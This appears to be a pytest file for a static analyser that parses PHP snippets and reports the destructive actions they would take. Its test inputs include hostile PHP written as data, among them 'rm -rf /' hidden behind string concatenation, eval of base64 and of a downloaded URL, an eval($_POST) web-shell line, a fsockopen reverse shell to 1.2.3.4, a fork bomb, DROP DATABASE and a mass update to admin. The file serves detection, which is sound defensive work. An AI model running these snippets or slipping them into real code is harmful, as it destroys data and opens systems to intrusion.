"""PHP source in, what it would do out."""

from __future__ import annotations

import pytest

from cases import each
from interlock.analysis.code.grammar_languages import read_php
from interlock.analysis.facts import hole
from recording_report import Fact, Recorder

SYNTAX = ("unreadable", "PHP that does not parse", "syntax")
ITERATE = (
    'foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator("src")) as $f) if ($f->isFile()) unlink($f);'
)

FILES: list[tuple[str, list[Fact]]] = [
    ("unlink('x'); rmdir('d');", [("delete", "x"), ("delete", "d", "empty_only")]),
    ("array_map('unlink', glob('*'));", [("delete", "*", "bulk")]),
    ("array_map(fn($f) => unlink($f), glob('src/*'));", [("delete", "src/*", "bulk")]),
    ('foreach (glob("*.log") as $f) { unlink($f); }', [("delete", "*.log", "bulk")]),
    ("array_walk($files, function($f) { unlink($f); });", [("delete", hole("files"), "bulk")]),
    (ITERATE, [("delete", "src", "bulk", "recursive")]),
    (
        'function r($d){ foreach(scandir($d) as $f)is_dir("$d/$f") ? r("$d/$f") :unlink("$d/$f");rmdir($d); } r("src")',
        [("delete", f"src/{hole()}", "bulk", "recursive"), ("delete", "src", "empty_only", "recursive")],
    ),
    (
        'file_put_contents("x", "a"); file_put_contents("y", ""); file_put_contents("z", "a", FILE_APPEND);',
        [("write", "x"), ("truncate", "y"), ("append", "z")],
    ),
    ('$h = fopen("x", "w"); fwrite($h, "a"); fopen("y", "w");', [("write", "x"), ("truncate", "y")]),
    (
        'rename("a", "b"); chmod("x", 0777);',
        [("move", "a"), ("overwrite", "b"), ("chmod", "x", "world_readable", "world_writable")],
    ),
]

RUNS: list[tuple[str, list[Fact]]] = [
    (
        "system('a'); exec('b', $o); shell_exec(\"c $x\"); echo `d`;",
        [("shell", "a"), ("shell", "b"), ("shell", f"c {hole('x')}"), ("shell", "d")],
    ),
    ("$f = 'sys'.'tem'; $f('rm -rf /');", [("shell", "rm -rf /")]),
    ("call_user_func('system', 'ls');", [("shell", "ls")]),
    ("$a = ['cmd' => 'rm -rf /']; system($a['cmd']);", [("shell", "rm -rf /")]),
    ("system(\"rm -rf \" . getenv('HOME'));", [("shell", f"rm -rf {hole('HOME')}")]),
    ("(function(){ system('k'); })();", [("shell", "k")]),
    ('eval(base64_decode("c3lzdGVtKCdscycpOw=="));', [("code", "php", "system('ls');")]),
    ("eval(file_get_contents('http://e/x'));", [("fetch", "http://e/x"), ("run_download", "http://e/x")]),
    ("eval($_POST['x']);", [("unreadable", "exec of text made at run time", "payload")]),
    ("$f = $_GET['f']; $f($_GET['a']);", [("unreadable", "a function chosen at run time", "command")]),
    (
        '$s=fsockopen("1.2.3.4",44);exec("/bin/sh -i <&3");',
        [("shell", "/bin/sh -i <&3"), ("reverse_shell", "1.2.3.4:44")],
    ),
    ("while(1) pcntl_fork();", [("fork_bomb", "")]),
    ("Artisan::call('migrate:fresh', ['--force' => true]);", [("shell", "php artisan migrate:fresh --force")]),
    ('<?php echo 1; ?> unlink("x") <?php system("y");', [("shell", "y")]),
]

RECORDS: list[tuple[str, list[Fact]]] = [
    ("App\\Models\\User::truncate();", [("sql_truncate", "User")]),
    ("User::query()->delete();", [("sql_delete", "User", "unfiltered")]),
    ('$s = ""; for ($i = 0; $i < 2; $i++) $s .= chr([114, 109][$i]); system($s);', [("shell", "rm")]),
    ('for ($i = 0; $i < 9999; $i++) for ($j = 0; $j < 9999; $j++) $x++; unlink("z");', [("delete", "z")]),
    ("User::where('id', 1)->delete(); Post::destroy(1);", [("sql_delete", "User"), ("sql_delete", "Post")]),
    ("User::all()->each->delete();", [("sql_delete", "User", "unfiltered")]),
    ("foreach (User::all() as $u) $u->delete();", [("sql_delete", "User", "unfiltered")]),
    (
        "DB::table('t')->truncate(); DB::table('t')->delete();",
        [("sql_truncate", "t"), ("sql_delete", "t", "unfiltered")],
    ),
    ("DB::table('t')->where('id', 1)->delete();", [("sql_delete", "t")]),
    ('DB::statement("DROP TABLE t");', [("code", "sql", "DROP TABLE t")]),
    (
        '$pdo->exec("DROP DATABASE x"); mysqli_query($c, "DELETE FROM t");',
        [("code", "sql", "DROP DATABASE x"), ("code", "sql", "DELETE FROM t")],
    ),
    ("Schema::dropIfExists('t'); Schema::dropAllTables();", [("sql_drop", "t", "table"), ("sql_drop", "", "database")]),
    ("Redis::flushall(); Cache::flush();", [("store_drop", "", "all")]),
    ("User::query()->update(['role' => 'admin']);", [("sql_update", "User", "unfiltered")]),
]

BENIGN = [
    'echo "rm -rf /"; // unlink("x")',
    '/* unlink("x") */ # system("ls")\necho 1;',
    "$x = <<<EOT\nsystem('rm')\nEOT;\necho $x;",
    "echo User::count(); dd(User::where('a', 1)->get()->pluck('id'));",
    "echo 'unlink(\"x\")'; printf('%s', 'rm -rf /'); preg_match('/rm -rf/', $s, $m);",
    "$x = static fn(int $a): int => $a * 2; echo $x(3);",
    "echo \"Total: {$a['b']} and ${c} $d->e $f[0]\";",
    "$o = new Foo; $o->delete(); Cache::forget('x');",
    "$m = match(true) { $x > 1 => 'a', default => 'b' }; echo $a?->x ?? 'n';",
]


@each(("source", "told"), FILES + RUNS + RECORDS)
def test_what_php_does_is_told(source: str, told: list[Fact]) -> None:
    out = Recorder()
    read_php(source, out)
    assert out.told == told


@pytest.mark.parametrize("source", BENIGN)
def test_harmless_php_tells_nothing(source: str) -> None:
    out = Recorder()
    read_php(source, out)
    assert out.told == []


@pytest.mark.parametrize("source", ['unlink("a', "f(", "}", "/* x", "{" * 5000, '"{$' * 3000, "$x = <<<A\nb"])
def test_php_that_does_not_parse_is_told(source: str) -> None:
    out = Recorder()
    read_php(source, out)
    assert "unreadable" in [fact[0] for fact in out.told]
